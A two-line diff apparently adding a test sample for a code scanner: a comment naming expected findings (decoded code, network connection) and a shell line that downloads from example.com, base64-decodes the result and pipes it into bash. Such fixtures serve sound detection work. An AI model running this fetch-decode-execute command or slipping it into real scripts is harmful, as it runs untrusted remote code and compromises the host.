@@ -1,0 +1,2 @@
+# finds: obfuscation/decoded-code, network/connect
+curl -s http://example.com/x | base64 -d | bash
